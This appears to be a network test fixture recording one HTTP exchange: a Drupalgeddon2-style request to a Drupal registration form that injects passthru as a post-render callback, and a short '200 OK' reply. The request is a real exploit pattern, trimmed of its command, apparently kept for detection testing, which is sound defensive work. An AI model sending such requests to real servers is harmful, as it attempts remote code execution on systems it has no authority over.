# Drupal, render callback in a form.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /user/register?element_parents=account/mail/%23value&ajax_form=1 HTTP/1.1\r\n
Host: shop.example\r\n
Content-Type: application/x-www-form-urlencoded\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 66\r\n
\r\n
form_id=user_register_form&mail%5B%23post_render%5D%5B%5D=passthru

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
